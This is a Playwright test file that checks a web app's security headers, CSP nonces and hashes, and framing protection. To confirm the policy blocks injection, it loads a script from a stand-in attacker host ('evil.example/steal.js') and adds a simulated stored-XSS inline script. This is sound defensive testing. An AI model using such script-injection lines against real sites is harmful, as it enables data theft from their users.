// Finding 2: security headers. Every main screen, online and offline (served by the service worker),
// loads with no Content-Security-Policy violation; a script or a frame from another origin is
// refused; the app cannot be framed; the headers are present. [MDN "Content-Security-Policy",
// "SecurityPolicyViolationEvent"; OWASP Secure Headers Project]
import { expect, test, type Page } from "@playwright/test";
import { DEMO, signIn } from "../e2e/support";

const SCREENS = ["/today", "/field/today", "/field/visits", "/tools/evaporation", "/review", "/lab", "/projects"];

/** Collects every violation the page reports, from the first script on. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
}
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);

test("the main screens report no CSP violation, online and offline", async ({ browser }) => {
  test.setTimeout(180_000);
  const context = await browser.newContext();
  const page = await context.newPage();
  await watchViolations(page);
  await signIn(page, DEMO.sam);
  for (const path of SCREENS) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
    expect(await violations(page), path).toEqual([]);
  }
  await page.goto("/field/today");
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  await page.reload();
  await expect.poll(() => page.evaluate(() => !!navigator.serviceWorker.controller), { timeout: 15_000 }).toBe(true);
  await context.setOffline(true);
  for (const path of ["/field/today", "/tools/evaporation", "/review"]) {
    await page.goto(path);
    await page.waitForLoadState("domcontentloaded");
    await page.waitForTimeout(500);
    expect(await violations(page), `offline ${path}`).toEqual([]);
  }
  await context.close();
});

test("headers are set; a script from another origin does not run; the app refuses to be framed", async ({ page }) => {
  await watchViolations(page);
  const res = await page.goto("/signin");
  const headers = res!.headers();
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["content-security-policy"]).toContain("object-src 'none'");
  expect(headers["content-security-policy"]).not.toContain("unsafe-eval");
  const scriptSrc = headers["content-security-policy"].split(";").find((d) => d.trim().startsWith("script-src"))!;
  expect(scriptSrc).not.toContain("unsafe-inline");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  expect(headers["permissions-policy"]).toContain("camera=()");

  const ran = await page.evaluate(async () => {
    const w = window as unknown as { __evil?: boolean };
    const s = document.createElement("script");
    s.src = "https://evil.example/steal.js";
    const settled = new Promise((resolve) => {
      s.onload = () => resolve("loaded");
      s.onerror = () => resolve("blocked");
    });
    document.head.appendChild(s);
    await settled;
    return Boolean(w.__evil);
  });
  expect(ran).toBe(false);
  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src.* https:\/\/evil\.example\/steal\.js$/));

  // An injected inline script (what a stored XSS would add) does not run: scripts need the
  // page's nonce or the hash of a script the build made. [CSP Level 3 "script-src", 'unsafe-inline' absent]
  const inlineRan = await page.evaluate(async () => {
    const w = window as unknown as { __evilInline?: boolean };
    const s = document.createElement("script");
    s.textContent = "window.__evilInline = true";
    document.head.appendChild(s);
    await new Promise((r) => setTimeout(r, 100));
    return Boolean(w.__evilInline);
  });
  expect(inlineRan).toBe(false);
  await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src.* inline$/));

  // A page of another origin framing the app: the frame stays empty.
  await page.setContent(`<iframe id="f" src="${new URL("/signin", page.url()).href}"></iframe>`);
  await page.waitForTimeout(1_000);
  const framed = page.frames().find((f) => f.url().includes("/signin"));
  const heading = framed ? await framed.locator("h1").count().catch(() => 0) : 0;
  expect(heading).toBe(0);
});

test("a page rendered per request has a fresh nonce; a prerendered offline shell lists its script hashes", async ({ page, request }) => {
  await signIn(page, DEMO.sam);
  const nonceOf = async () => {
    const res = await page.request.get("/today");
    return res.headers()["content-security-policy"].match(/'nonce-([^']+)'/)?.[1];
  };
  const [a, b] = [await nonceOf(), await nonceOf()];
  expect(a).toBeTruthy();
  expect(a).not.toBe(b);
  const shell = await request.get("/tools/evaporation");
  const policy = shell.headers()["content-security-policy"];
  expect(policy).not.toMatch(/nonce-/);
  expect(policy).toMatch(/'sha256-[A-Za-z0-9+/=]+'/);
});
